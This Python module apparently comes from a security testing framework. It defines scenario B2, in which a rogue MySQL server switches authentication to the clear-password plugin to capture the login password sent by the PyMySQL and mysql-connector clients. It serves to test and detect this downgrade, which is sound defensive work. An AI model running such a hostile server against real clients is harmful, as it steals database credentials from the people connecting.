"""B2: the server switches the login to a plugin that sends the password as it is."""

from backwatch.attack.clients.mysql_connector import MySQLConnector
from backwatch.attack.clients.pymysql import PyMySQL
from backwatch.attack.demo.services.mysql import Packets
from backwatch.attack.protocols.mysql import HonestMySQL, switch
from backwatch.attack.protocols.server import SECRET
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import Lookup


class ClearPasswordMySQL(HonestMySQL):
    """Asks for the password itself, once hostile."""

    def log_in(self, wire: Packets, proof: bytes) -> None:
        """Switch the plugin and take what the client sends."""
        if self.hostile:
            self.on_leak(switch(wire, b"mysql_clear_password").rstrip(b"\0"))
        else:
            super().log_in(wire, proof)


class ClearPassword(Lookup):
    """Verified TLS does not help: an attacker who controls the server gets the login too."""

    code = "B2"
    attack = "asks for the password itself in place of a proof of it"
    reference = "https://github.com/PyMySQL/PyMySQL/issues/842"
    rule = "auth-downgraded"
    server = ClearPasswordMySQL
    captures = SECRET.encode()
    runs = (Run(PyMySQL), Run(MySQLConnector, "connector"))
